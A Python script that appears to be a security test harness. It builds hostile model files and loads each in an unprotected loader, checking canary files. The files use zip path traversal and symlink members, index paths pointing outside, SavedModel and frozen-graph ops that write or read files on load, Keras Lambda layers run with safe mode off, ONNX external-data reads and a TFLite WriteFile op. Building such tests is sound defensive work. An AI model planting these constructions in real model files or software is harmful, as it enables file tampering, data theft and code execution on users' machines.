"""Builds hostile model files and fires each in a loader without protection: ``hostile_builder.py FOLDER``.

Run in a process of its own. Every file stands in FOLDER/files; what its unprotected loader did is
FOLDER/fired/NAME. Nothing but these two folders is touched.
"""

from __future__ import annotations

import json
import os
import stat
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"

import keras
import numpy as np
import tensorflow as tf

SECRET = "the secret"
Case = Callable[[Path, Path], None]
"""Gets the file to build and the canary, which is there when the unprotected loader has done the harm."""


def index(**changes: Any) -> bytes:
    """Return the index of a container."""
    model = {
        "path": "model_0",
        "formats": {"tensorflow": "tensorflow.tf"},
        "input features": ["deform", "area_um", "bright_avg"],
        "output features": ["ml_score_aaa", "ml_score_bbb"],
    }
    return json.dumps({"model count": 1, "models": [model | changes]}).encode()


def container(file: Path, payload: Path) -> None:
    """Pack a SavedModel or an HDF5 file as a container."""
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.json", index())
        if payload.is_file():
            archive.write(payload, "model_0/tensorflow.tf")
        for path in sorted(payload.rglob("*")):
            archive.write(path, f"model_0/tensorflow.tf/{path.relative_to(payload).as_posix()}")


def naive_unpack(file: Path, folder: Path) -> None:
    """Unpack a zip file as careless programs do: names as they are, links as links."""
    with zipfile.ZipFile(file) as archive:
        for member in archive.infolist():
            target = folder / member.filename
            target.parent.mkdir(parents=True, exist_ok=True)
            if stat.S_ISLNK(member.external_attr >> 16):
                target.symlink_to(archive.read(member).decode())
            else:
                target.write_bytes(archive.read(member))


def with_member(file: Path, name: str, content: bytes = b"x", link: bool = False) -> None:
    """Write a container with one further member."""
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("index.json", index())
        member = zipfile.ZipInfo(name)
        member.external_attr = ((stat.S_IFLNK if link else stat.S_IFREG) | 0o644) << 16
        archive.writestr(member, content)


def climbs_out(file: Path, canary: Path) -> None:
    """Two dots in the name of a member."""
    inside = canary.parent / "inside"
    with_member(file, f"../{canary.name}")
    naive_unpack(file, inside)


def absolute_name(file: Path, canary: Path) -> None:
    """A member whose name is a place on the disk."""
    with_member(file, str(canary))
    naive_unpack(file, canary.parent / "inside")


def link_inside(file: Path, canary: Path) -> None:
    """A link through which the next member is written."""
    with_member(file, "model_0", str(canary.parent).encode(), link=True)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(f"model_0/{canary.name}", b"x")
    naive_unpack(file, canary.parent / "inside3")


def index_climbs_out(file: Path, canary: Path) -> None:
    """The index names a folder outside, which dclab's loader opens."""
    secret = canary.parent / "outside.txt"
    secret.write_text(SECRET)
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("index.json", index(path=str(secret.parent), formats={"tensorflow": secret.name}))
    entry = json.loads(zipfile.ZipFile(file).read("index.json"))["models"][0]
    canary.write_text((Path("/tmp/unpacked") / entry["path"] / entry["formats"]["tensorflow"]).read_text())


class Writer(tf.saved_model.experimental.TrackableResource):
    """Writes a file when it is restored."""

    def __init__(self, canary: Path) -> None:
        super().__init__()
        self.canary = str(canary)
        self.armed = False

    def _create_resource(self) -> Any:
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[])

    def _initialize(self) -> None:
        if self.armed:
            tf.io.write_file(self.canary, "x")


def network(function: Callable[[Any], Any]) -> tf.Module:
    """Return a module that looks like a classifier of gray images."""
    module = tf.Module()
    module.weights = tf.Variable(np.ones((64, 2), np.float32))

    @tf.function(input_signature=[tf.TensorSpec((None, 8, 8, 1), tf.float32)], autograph=False)
    def serve(image: Any) -> dict[str, Any]:
        flat = tf.reshape(image, (-1, 64)) + function(image)
        return {"probabilities": tf.nn.softmax(flat @ module.weights)}

    module.serve = serve
    return module


def save(module: tf.Module, folder: Path) -> None:
    """Save a module with one signature."""
    tf.saved_model.save(module, str(folder), signatures={"serving_default": module.serve})


def call(folder: Path) -> Any:
    """Load and call a SavedModel as TensorFlow's guide says."""
    loaded = tf.saved_model.load(str(folder))
    return loaded.signatures["serving_default"](tf.zeros((1, 8, 8, 1)))


def saved_model_writes_on_loading(file: Path, canary: Path) -> None:
    """A resource that writes a file before anything is asked."""
    module = network(lambda image: 0.0)
    module.table = Writer(canary)
    module.table.armed = True
    save(module, file)
    canary.unlink(missing_ok=True)
    tf.saved_model.load(str(file))


def saved_model_writes(file: Path, canary: Path) -> None:
    """An operation that writes a file when the model is asked."""

    def write(image: Any) -> Any:
        with tf.control_dependencies([tf.io.write_file(str(canary), "x")]):
            return tf.constant(0.0)

    save(network(write), file)
    call(file)


def saved_model_reads(file: Path, canary: Path) -> None:
    """An operation that reads a file; what it says depends on it."""
    secret = canary.parent / "secret.txt"
    secret.write_text("5")
    save(network(lambda image: tf.strings.to_number(tf.io.read_file(str(secret)))), file)
    secret.write_text("7")
    call(file)
    canary.write_text("it answered with the file's content")


def saved_model_runs_python(file: Path, canary: Path) -> None:
    """A Python function, which runs in the process that made it."""

    def touch() -> Any:
        canary.write_text("x")
        return np.float32(0)

    save(network(lambda image: tf.ensure_shape(tf.py_function(touch, [], tf.float32), ())), file)
    call(file)


def frozen_graph_writes(file: Path, canary: Path) -> None:
    """The same in a frozen graph."""
    graph = tf.Graph()
    with graph.as_default():
        image = tf.compat.v1.placeholder(tf.float32, (None, 8, 8, 1), name="image")
        with tf.control_dependencies([tf.io.write_file(str(canary), "x")]):
            tf.nn.softmax(tf.reshape(image, (-1, 64))[:, :2], name="probabilities")
    file.write_bytes(graph.as_graph_def().SerializeToString())
    with tf.Graph().as_default() as other, tf.compat.v1.Session() as session:
        tf.import_graph_def(tf.compat.v1.GraphDef.FromString(file.read_bytes()), name="")
        session.run(other.get_tensor_by_name("probabilities:0"), {"image:0": np.zeros((1, 8, 8, 1))})


def container_writes(file: Path, canary: Path) -> None:
    """The same in a container."""
    folder = canary.parent / "packed"
    saved_model_writes_on_loading(folder, canary)
    container(file, folder)


def lambda_network(canary: Path, shape: tuple[int, ...]) -> Any:
    """Return a network with code of its own."""
    code = eval(f"lambda x: (open({str(canary)!r}, 'w').close(), x)[1]")
    layers = [keras.layers.Lambda(code, output_shape=shape), keras.layers.Flatten(), keras.layers.Dense(2)]
    return keras.Sequential([keras.Input(shape), *layers])


def keras_lambda(file: Path, canary: Path) -> None:
    """A Lambda layer in Keras' own file, or in HDF5."""
    lambda_network(canary, (8, 8, 1)).save(file)
    canary.unlink(missing_ok=True)
    loaded = keras.saving.load_model(file, compile=False, safe_mode=False)
    loaded(np.zeros((1, 8, 8, 1), np.float32))


def container_lambda(file: Path, canary: Path) -> None:
    """A Lambda layer in the HDF5 file of a container, which dclab would hand to Keras 2."""
    payload = canary.parent / "lambda.h5"
    lambda_network(canary, (3,)).save(payload)
    container(file, payload)
    canary.unlink(missing_ok=True)
    keras.saving.load_model(payload, compile=False, safe_mode=False)(np.zeros((1, 3), np.float32))


def onnx_reads(file: Path, canary: Path) -> None:
    """Weights in another file."""
    import onnx
    import onnxruntime
    from onnx import TensorProto, helper, numpy_helper

    weights = numpy_helper.from_array(np.full((64, 2), 42, np.float32), "w")
    nodes = [
        helper.make_node("Flatten", ["image"], ["flat"]),
        helper.make_node("MatMul", ["flat", "w"], ["y"]),
    ]
    given = helper.make_tensor_value_info("image", TensorProto.FLOAT, ["n", 8, 8, 1])
    out = helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 2])
    model = helper.make_model(
        helper.make_graph(nodes, "g", [given], [out], [weights]), opset_imports=[helper.make_opsetid("", 15)]
    )
    model.ir_version = 8
    onnx.save(model, file, save_as_external_data=True, location="secret.bin", size_threshold=0)
    session = onnxruntime.InferenceSession(str(file), providers=["CPUExecutionProvider"])
    (found,) = session.run(None, {"image": np.ones((1, 8, 8, 1), np.float32)})
    if found[0, 0] == 42 * 64:
        canary.write_text("it answered with the other file's content")


def tflite_writes(file: Path, canary: Path) -> None:
    """An operation of TensorFlow within TensorFlow Lite: interpreters that have these operations run it."""

    @tf.function(input_signature=[tf.TensorSpec((1, 8, 8, 1), tf.float32)])
    def serve(image: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=str(canary), contents="x")]):
            return tf.nn.softmax(tf.reshape(image, (1, 64))[:, :2])

    converter = tf.lite.TFLiteConverter.from_concrete_functions([serve.get_concrete_function()])
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    file.write_bytes(converter.convert())
    canary.unlink(missing_ok=True)
    interpreter = tf.lite.Interpreter(str(file))
    try:
        interpreter.allocate_tensors()
    except RuntimeError as error:
        # TensorFlow for Python is built without them since 2.20: it stops before the node that would write.
        if "FlexWriteFile" in str(error):
            canary.write_text("it was about to run WriteFile")


CASES: dict[str, Case] = {
    "climbs_out.modc": climbs_out,
    "absolute_name.modc": absolute_name,
    "link_inside.modc": link_inside,
    "index_climbs_out.modc": index_climbs_out,
    "writes_on_loading": saved_model_writes_on_loading,
    "writes": saved_model_writes,
    "reads": saved_model_reads,
    "runs_python": saved_model_runs_python,
    "writes.pb": frozen_graph_writes,
    "writes.modc": container_writes,
    "lambda.keras": keras_lambda,
    "lambda.h5": keras_lambda,
    "lambda.modc": container_lambda,
    "reads.onnx": onnx_reads,
    "writes.tflite": tflite_writes,
}


def main(folder: Path) -> None:
    """Build and fire everything."""
    (folder / "files").mkdir()
    (folder / "fired").mkdir()
    for name, build in CASES.items():
        build(folder / "files" / name, folder / "fired" / name)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
